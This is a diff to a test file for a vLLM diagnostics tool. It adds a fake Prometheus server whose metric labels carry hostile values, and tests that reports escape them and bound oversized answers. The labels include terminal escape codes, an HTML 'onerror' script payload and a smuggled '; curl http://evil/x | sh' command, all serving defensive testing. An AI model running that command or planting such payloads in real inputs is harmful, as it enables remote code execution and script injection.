@@ -165,7 +165,7 @@ def _rss_mb() -> float:
 
 
 @pytest.mark.parametrize("kind, error", [("endless", "over 4194304 bytes"), ("bomb", "over 4194304 bytes"),
-                                         ("drip", "not complete within 1 s"), ("html", "'text/html' is not Prometheus")])
+                                         ("drip", "not complete within the deadline (scrape_deadline)"), ("html", "'text/html' is not Prometheus")])
 def test_a_hostile_metrics_answer_is_a_failed_scrape(kind, error):
     from vllm_doctor.ingest.scrape import MetricsScraper
 
@@ -418,3 +418,83 @@ def test_bench_counts_a_malformed_stream_as_an_error_with_its_message(kind, erro
     lv = res["levels"][0]
     assert (lv["requests"], lv["completed"], lv["errors"]) == (4, 0, 4)
     assert lv["error_examples"] == [f"malformed stream chunk: {error}"]
+
+
+# --- items 3, 7: fleet mode: label values escaped, never a command; a bad series skipped; bounded --
+HOSTILE_POD = "vllm-0\x1b[2J\x1b[31m|<img src=x onerror=alert(1)>\n; curl http://evil/x | sh"
+
+
+class _FakePrometheus(_Local):
+    """Prometheus' HTTP API on 127.0.0.1: every range query answers vLLM's running / waiting /
+    KV usage series of one replica whose pod label is hostile, plus a series with +Inf and a
+    malformed one; ``huge``: an answer that never ends."""
+
+    def __init__(self, huge: bool = False) -> None:
+        import threading
+        from http.server import BaseHTTPRequestHandler
+        from urllib.parse import parse_qs
+
+        stop = self.stop = threading.Event()
+
+        class H(BaseHTTPRequestHandler):
+            def do_POST(self):  # noqa: N802
+                form = parse_qs(self.rfile.read(int(self.headers.get("Content-Length", 0))).decode())
+                self.send_response(200)
+                self.send_header("Content-Type", "application/json")
+                self.end_headers()
+                if huge:
+                    self.wfile.write(b'{"status": "success", "data": {"resultType": "matrix", "result": [')
+                    try:
+                        while not stop.is_set():
+                            self.wfile.write(b'{"metric": {}, "values": []},' * 1000)
+                    except (BrokenPipeError, ConnectionResetError):
+                        pass
+                    return
+                start, end = float(form.get("start", ["0"])[0]), float(form.get("end", ["0"])[0])
+                ts = [start + 15 * i for i in range(int((end - start) // 15) + 1)][:400]
+                labels = {"pod": HOSTILE_POD, "namespace": "prod", "model_name": "m\x1b]0;x\x07",
+                          "cache_dtype": "fp8; curl http://evil/x | sh", "block_size": "16", "engine": "0"}
+                result = [{"metric": {**labels, "__name__": n}, "values": [[t, v] for t in ts]}
+                          for n, v in (("vllm:num_requests_running", "8"), ("vllm:num_requests_waiting", "0"),
+                                       ("vllm:kv_cache_usage_perc", "0.5"), ("vllm:cache_config_info", "1"))]
+                result += [{"metric": {**labels, "__name__": "vllm:num_requests_waiting"}, "values": [[ts[0], "+Inf"]]},
+                           {"metric": "not a mapping", "values": 5}]
+                self.wfile.write(json.dumps({"status": "success", "data": {"resultType": "matrix", "result": result}})
+                                 .encode())
+
+            def log_message(self, *a):
+                pass
+
+        self.url = _serve(self, H)
+
+
+def test_fleet_label_values_are_escaped_and_never_a_command():
+    from vllm_doctor.fleet import diagnose_prometheus
+    from vllm_doctor.report.render import to_html, to_markdown, to_text
+
+    with _FakePrometheus() as prom:
+        res = diagnose_prometheus(prom.url, since="1h")
+    rep = res.report
+    text, md, page = to_text(rep), to_markdown(rep), to_html(rep)
+    assert "\x1b" not in text and "\x07" not in text
+    assert "<img" not in md and "<img" not in page
+    first = [ln for ln in (text + md).splitlines() if "Do this first" in ln]
+    assert not any("curl" in ln or "evil" in ln for ln in first), first  # a label is shown, never a command
+    assert "\\|&lt;img src=x" in md  # shown as text in the table, its pipe escaped
+    for f in rep.findings:
+        for fix in f.fixes:
+            assert "curl" not in str(fix.value) and "evil" not in str(fix.value)
+    assert rep.sources[0].get("series_skipped", 0) >= 1
+
+
+def test_fleet_prometheus_answers_are_bounded(monkeypatch):
+    import time
+
+    from vllm_doctor.errors import InputError
+    from vllm_doctor.fleet import diagnose_prometheus
+
+    monkeypatch.setenv("VLLM_DOCTOR_PROMETHEUS_MAX_BYTES", str(1 << 20))
+    t = time.monotonic()
+    with _FakePrometheus(huge=True) as prom, pytest.raises(InputError, match="over 1048576 bytes"):
+        diagnose_prometheus(prom.url, since="1h")
+    assert time.monotonic() - t < 60
